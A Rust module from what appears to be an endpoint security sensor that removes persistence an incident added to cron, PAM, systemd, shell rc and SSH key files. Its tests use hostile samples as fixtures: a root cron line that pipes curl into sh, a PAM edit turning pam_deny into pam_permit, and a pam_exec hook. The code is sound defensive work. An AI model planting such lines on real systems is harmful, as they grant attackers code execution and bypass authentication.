//! Remediating persistence: removing exactly what an incident added to a cron table, a unit,
//! authorized_keys, a shell rc file or /etc/ld.so.preload.
//!
//! The sensor keeps a baseline of the usual persistence files, read at start and refreshed
//! when a file changes without an alert about it. Lines present now and absent from the
//! baseline are the incident's; they are removed (the file is rewritten in place, owner and
//! mode kept) and kept in the journal for the undo, which puts each back at its line number.
//! A file with no baseline that the incident itself created is quarantined whole.

use std::{
    collections::{HashMap, HashSet},
    fs,
    fs::File,
    io::Write,
    os::unix::fs::{MetadataExt, OpenOptionsExt},
    path::Path,
};

/// Single files that hold persistence.
const FILES: &[&str] = &[
    "/etc/crontab",
    "/etc/anacrontab",
    "/etc/ld.so.preload",
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/environment",
    "/etc/zsh/zshrc",
    "/etc/zsh/zprofile",
    "/etc/rc.local",
    "/etc/pam.conf",
    "/etc/sudoers",
    // The account lists (not their password halves: the sensor keeps no hash in memory).
    "/etc/passwd",
    "/etc/group",
    "/etc/motd",
    "/etc/modules",
];

/// Directories whose files hold persistence (one level).
const DIRS: &[&str] = &[
    "/etc/cron.d",
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
    "/var/spool/cron",
    "/var/spool/cron/crontabs",
    "/etc/profile.d",
    "/etc/systemd/system",
    "/etc/systemd/user",
    "/etc/systemd/system-generators",
    "/etc/init.d",
    "/etc/pam.d",
    "/etc/sudoers.d",
    "/etc/update-motd.d",
    "/etc/udev/rules.d",
    "/etc/xdg/autostart",
    "/etc/modules-load.d",
    "/etc/modprobe.d",
    "/etc/apt/apt.conf.d",
    "/var/spool/cron/atjobs",
    "/var/spool/at",
];

/// Per-user files, under each home directory.
const HOME_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".ssh/authorized_keys",
    ".ssh/authorized_keys2",
    ".ssh/rc",
];

/// Per-user directories whose files hold persistence (one level), under each home.
const HOME_DIRS: &[&str] = &[".config/autostart", ".config/systemd/user"];

/// Files larger than this are not kept in the baseline.
const MAX_BASELINE_FILE: u64 = 1 << 20;

struct Known {
    lines: Vec<String>,
    mtime_ns: i64,
    size: u64,
}

/// What the persistence files held before anything suspicious wrote them.
#[derive(Default)]
pub struct Baseline {
    files: HashMap<String, Known>,
    /// Written by a process with an alert: the baseline keeps the content from before.
    tainted: HashSet<String>,
    /// Changes seen by [`Baseline::refresh`] and not yet taken in: the stamp seen, and
    /// since when.
    settling: HashMap<String, ((i64, u64), std::time::Instant)>,
}

/// How long a change must stand, with no alert about it, before the baseline takes it in:
/// the event of the write that made it may still be on its way through the ring buffer, and
/// its alert would taint the file.
pub const SETTLE: std::time::Duration = std::time::Duration::from_secs(3);

fn lines_of(text: &str) -> Vec<String> {
    text.split_inclusive('\n').map(str::to_owned).collect()
}

fn stamp(path: &Path) -> Option<(i64, u64)> {
    let m = fs::metadata(path).ok()?;
    m.is_file()
        .then(|| (m.mtime() * 1_000_000_000 + m.mtime_nsec(), m.len()))
}

impl Baseline {
    /// Reads every usual persistence file that exists now.
    pub fn scan() -> Self {
        let mut paths: Vec<String> = FILES.iter().map(|s| (*s).to_owned()).collect();
        for d in DIRS {
            if let Ok(entries) = fs::read_dir(d) {
                paths.extend(
                    entries
                        .filter_map(Result::ok)
                        .map(|e| e.path().to_string_lossy().into_owned()),
                );
            }
        }
        let mut homes = vec!["/root".to_owned()];
        if let Ok(entries) = fs::read_dir("/home") {
            homes.extend(
                entries
                    .filter_map(Result::ok)
                    .map(|e| e.path().to_string_lossy().into_owned()),
            );
        }
        for h in &homes {
            paths.extend(HOME_FILES.iter().map(|f| format!("{h}/{f}")));
            for d in HOME_DIRS {
                if let Ok(entries) = fs::read_dir(format!("{h}/{d}")) {
                    paths.extend(
                        entries
                            .filter_map(Result::ok)
                            .map(|e| e.path().to_string_lossy().into_owned()),
                    );
                }
            }
        }
        let mut b = Self::default();
        for p in paths {
            b.read(&p);
        }
        b
    }

    fn read(&mut self, path: &str) {
        let Some((mtime_ns, size)) = stamp(Path::new(path)) else {
            return;
        };
        if size > MAX_BASELINE_FILE {
            return;
        }
        if let Ok(text) = fs::read_to_string(path) {
            self.files.insert(
                path.to_owned(),
                Known {
                    lines: lines_of(&text),
                    mtime_ns,
                    size,
                },
            );
        }
    }

    pub fn len(&self) -> usize {
        self.files.len()
    }

    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// A process with an alert wrote `path`: keep what the baseline holds.
    pub fn taint(&mut self, path: &str) {
        self.settling.remove(path);
        self.tainted.insert(path.to_owned());
    }

    /// An operator gave `path` back what a remediation took from it (an undo): what it holds
    /// now is what they want, and later remediations measure against it.
    pub fn accept(&mut self, path: &str) {
        self.settling.remove(path);
        self.tainted.remove(path);
        self.files.remove(path);
        self.read(path);
    }

    /// Takes in changes made without an alert (an administrator's edit), once each has
    /// stood unchanged and untainted for [`SETTLE`].
    pub fn refresh(&mut self) {
        self.refresh_at(std::time::Instant::now(), SETTLE);
    }

    fn refresh_at(&mut self, now: std::time::Instant, settle: std::time::Duration) {
        let changed: Vec<(String, Option<(i64, u64)>)> = self
            .files
            .iter()
            .filter(|(p, _)| !self.tainted.contains(*p))
            .filter_map(|(p, k)| {
                let now = stamp(Path::new(p));
                (now != Some((k.mtime_ns, k.size))).then(|| (p.clone(), now))
            })
            .collect();
        let mut still = HashMap::new();
        for (p, seen) in changed {
            // A file that is gone is forgotten at once: there is nothing to give back to.
            let Some(seen) = seen else {
                self.files.remove(&p);
                continue;
            };
            let since = match self.settling.remove(&p) {
                Some((s, since)) if s == seen => since,
                _ => now,
            };
            if now.saturating_duration_since(since) >= settle {
                self.files.remove(&p);
                self.read(&p);
            } else {
                still.insert(p, (seen, since));
            }
        }
        self.settling = still;
    }

    /// The lines `path` holds now that the baseline lacks, with their line numbers, and the
    /// lines to keep. None when the baseline does not know the file.
    fn diff(&self, path: &str) -> Option<std::io::Result<Split>> {
        let known = self.files.get(path)?;
        let current = match fs::read_to_string(path) {
            Ok(t) => lines_of(&t),
            Err(e) => return Some(Err(e)),
        };
        let mut budget: HashMap<&str, usize> = HashMap::new();
        for l in &known.lines {
            *budget.entry(l.trim_end_matches('\n')).or_default() += 1;
        }
        let mut split = Split::default();
        for (i, l) in current.into_iter().enumerate() {
            match budget.get_mut(l.trim_end_matches('\n')) {
                Some(n) if *n > 0 => {
                    *n -= 1;
                    split.keep.push(l);
                }
                _ => split.added.push((i, l)),
            }
        }
        split.missing = budget.values().sum();
        Some(Ok(split))
    }

    /// The lines `path` holds now that the baseline lacks (what an incident added and
    /// nobody removed since). None when the baseline does not know the file.
    pub fn added(&self, path: &str) -> Option<std::io::Result<Vec<String>>> {
        self.diff(path)
            .map(|r| r.map(|s| s.added.into_iter().map(|(_, l)| l).collect()))
    }

    /// Removes from `path` every line the baseline lacks. Returns the removed lines with their
    /// line numbers; None when the baseline does not know the file.
    pub fn strip(&mut self, path: &str) -> Option<std::io::Result<Vec<(usize, String)>>> {
        let split = match self.diff(path)? {
            Ok(s) => s,
            Err(e) => return Some(Err(e)),
        };
        if split.added.is_empty() {
            return Some(Ok(split.added));
        }
        let result = rewrite(Path::new(path), &split.keep.concat()).map(|()| split.added);
        if result.is_ok() {
            self.tainted.remove(path);
            self.read(path);
        }
        Some(result)
    }
}

/// A persistence file's lines, split against the baseline.
#[derive(Default)]
struct Split {
    keep: Vec<String>,
    added: Vec<(usize, String)>,
    /// Baseline lines the file no longer holds (changed in place, as `sed -i` or an editor
    /// does, or deleted).
    missing: usize,
}

/// What a remediation did to a persistence file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Remedy {
    /// The file holds nothing the baseline lacks.
    Unchanged,
    /// Lines were only added: they were removed (with their line numbers, for the undo).
    Removed(Vec<(usize, String)>),
    /// Lines were changed or deleted too (a rewrite in place, a rename over the file): the
    /// baseline's content was written back; `previous` is what the file held.
    Reverted {
        previous: String,
        added: usize,
        missing: usize,
    },
}

impl Baseline {
    /// Gives `path` back what the baseline holds: the added lines removed when only lines
    /// were added, the whole baseline content written back when lines were changed or
    /// deleted too. None when the baseline does not know the file.
    pub fn remedy(&mut self, path: &str) -> Option<std::io::Result<Remedy>> {
        let split = match self.diff(path)? {
            Ok(s) => s,
            Err(e) => return Some(Err(e)),
        };
        if split.missing == 0 {
            return Some(self.strip(path)?.map(|removed| {
                if removed.is_empty() {
                    Remedy::Unchanged
                } else {
                    Remedy::Removed(removed)
                }
            }));
        }
        let previous = match fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) => return Some(Err(e)),
        };
        let baseline: String = self.files.get(path)?.lines.concat();
        let result = rewrite(Path::new(path), &baseline).map(|()| Remedy::Reverted {
            previous,
            added: split.added.len(),
            missing: split.missing,
        });
        if result.is_ok() {
            self.tainted.remove(path);
            self.read(path);
        }
        Some(result)
    }
}

/// Writes `content` back into `path` (the undo of a revert), owner and mode kept.
pub fn write_back(path: &Path, content: &str) -> std::io::Result<()> {
    rewrite(path, content)
}

/// Puts `lines` back into `path`, each at its former line number (or at the end).
pub fn put_back(path: &Path, lines: &[(usize, String)]) -> std::io::Result<()> {
    let mut current = lines_of(&fs::read_to_string(path)?);
    let mut sorted = lines.to_vec();
    sorted.sort_by_key(|(i, _)| *i);
    for (i, l) in sorted {
        if let Some(last) = current.last_mut()
            && !last.ends_with('\n')
        {
            last.push('\n');
        }
        let at = i.min(current.len());
        current.insert(at, l);
    }
    rewrite(path, &current.concat())
}

/// Replaces `path`'s content in place of a whole-file rename, keeping its owner and mode: the
/// new content is written beside it and renamed over it.
fn rewrite(path: &Path, content: &str) -> std::io::Result<()> {
    let m = fs::metadata(path)?;
    let tmp = path.with_file_name(format!(
        ".{}.vigil-tmp",
        path.file_name()
            .map(|n| n.to_string_lossy())
            .unwrap_or_default()
    ));
    let mut f = fs::OpenOptions::new()
        .create(true)
        .write(true)
        .truncate(true)
        .mode(m.mode() & 0o7777)
        .open(&tmp)?;
    f.write_all(content.as_bytes())?;
    std::os::unix::fs::fchown(&f, Some(m.uid()), Some(m.gid()))?;
    std::fs::set_permissions(
        &tmp,
        std::os::unix::fs::PermissionsExt::from_mode(m.mode() & 0o7777),
    )?;
    // The file replaced is freed when its last descriptor closes: on the flusher, not here.
    let replaced = File::open(path).ok();
    fs::rename(&tmp, path)?;
    if let Some(old) = replaced {
        crate::host::durable::close_later(old);
    }
    // In force at once for every reader; on disk (content, then the rename) once the flusher
    // has synced it.
    crate::host::durable::sync_later(f, path);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_changed_in_place_is_reverted_to_the_baseline_and_the_undo_gives_it_back() {
        let d = tempfile::tempdir().expect("tempdir");
        let f = d.path().join("common-auth");
        let path = f.to_string_lossy().into_owned();
        let before =
            "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n";
        fs::write(&f, before).expect("write");
        let mut b = Baseline::default();
        b.read(&path);
        b.taint(&path);
        // sed -i: pam_deny becomes pam_permit, written beside and renamed over the file.
        let after = before.replace("pam_deny", "pam_permit");
        fs::write(d.path().join("sedX"), &after).expect("write");
        fs::rename(d.path().join("sedX"), &f).expect("rename");
        match b.remedy(&path).expect("known").expect("remedy") {
            Remedy::Reverted {
                previous,
                added,
                missing,
            } => {
                assert_eq!((added, missing), (1, 1));
                assert_eq!(previous, after);
                assert_eq!(fs::read_to_string(&f).expect("read"), before);
                write_back(&f, &previous).expect("undo");
                assert_eq!(fs::read_to_string(&f).expect("read"), after);
            }
            other => panic!("{other:?}"),
        }
        // An appended line only is removed, the rest kept.
        fs::write(&f, format!("{before}auth optional pam_exec.so /tmp/x\n")).expect("write");
        let mut b = Baseline::default();
        fs::write(&f, before).expect("write");
        b.read(&path);
        fs::write(&f, format!("{before}auth optional pam_exec.so /tmp/x\n")).expect("write");
        assert_eq!(
            b.remedy(&path).expect("known").expect("remedy"),
            Remedy::Removed(vec![(2, "auth optional pam_exec.so /tmp/x\n".to_owned())])
        );
        assert_eq!(
            b.remedy(&path).expect("known").expect("remedy"),
            Remedy::Unchanged
        );
    }

    #[test]
    fn strip_removes_only_lines_the_baseline_lacks_and_put_back_restores_them() {
        let d = tempfile::tempdir().expect("tempdir");
        let f = d.path().join("crontab");
        let path = f.to_string_lossy().into_owned();
        fs::write(&f, "# m h dom mon dow command\n0 3 * * * root backup\n").expect("write");
        let mut b = Baseline::default();
        b.read(&path);
        b.taint(&path);
        fs::write(
            &f,
            "# m h dom mon dow command\n* * * * * root curl x|sh\n0 3 * * * root backup\n",
        )
        .expect("write");
        b.refresh(); // tainted: the baseline keeps the old content
        assert_eq!(
            b.added(&path).expect("known").expect("read"),
            vec!["* * * * * root curl x|sh\n".to_owned()],
            "verification sees what the incident added"
        );
        let removed = b.strip(&path).expect("known").expect("strip");
        assert!(
            b.added(&path).expect("known").expect("read").is_empty(),
            "and nothing once it is removed"
        );
        assert_eq!(removed, vec![(1, "* * * * * root curl x|sh\n".to_owned())]);
        assert_eq!(
            fs::read_to_string(&f).expect("read"),
            "# m h dom mon dow command\n0 3 * * * root backup\n"
        );
        put_back(&f, &removed).expect("put back");
        assert_eq!(
            fs::read_to_string(&f).expect("read"),
            "# m h dom mon dow command\n* * * * * root curl x|sh\n0 3 * * * root backup\n"
        );
    }

    #[test]
    fn a_change_is_taken_in_only_once_it_has_stood_without_an_alert() {
        let d = tempfile::tempdir().expect("tempdir");
        let f = d.path().join("sshd");
        let path = f.to_string_lossy().into_owned();
        let before = "auth required pam_unix.so\n";
        fs::write(&f, before).expect("write");
        let mut b = Baseline::default();
        b.read(&path);
        let after = "auth sufficient pam_permit.so\n";
        fs::write(&f, after).expect("write");
        let t0 = std::time::Instant::now();
        let settle = std::time::Duration::from_secs(3);
        // Seen changed, before its alert has come through: not taken in yet...
        b.refresh_at(t0, settle);
        b.refresh_at(t0 + std::time::Duration::from_secs(1), settle);
        assert_eq!(
            b.added(&path).expect("known").expect("read"),
            vec![after.to_owned()]
        );
        // ...and the alert taints it: the baseline keeps what was there before.
        b.taint(&path);
        b.refresh_at(t0 + std::time::Duration::from_secs(10), settle);
        assert_eq!(
            b.added(&path).expect("known").expect("read"),
            vec![after.to_owned()]
        );
        // An edit no alert names is taken in once it has stood for the settling time.
        let mut b = Baseline::default();
        fs::write(&f, before).expect("write");
        b.read(&path);
        fs::write(&f, after).expect("write");
        b.refresh_at(t0, settle);
        assert!(!b.added(&path).expect("known").expect("read").is_empty());
        b.refresh_at(t0 + settle, settle);
        assert!(
            b.added(&path).expect("known").expect("read").is_empty(),
            "an administrator's edit becomes the baseline"
        );
    }
}
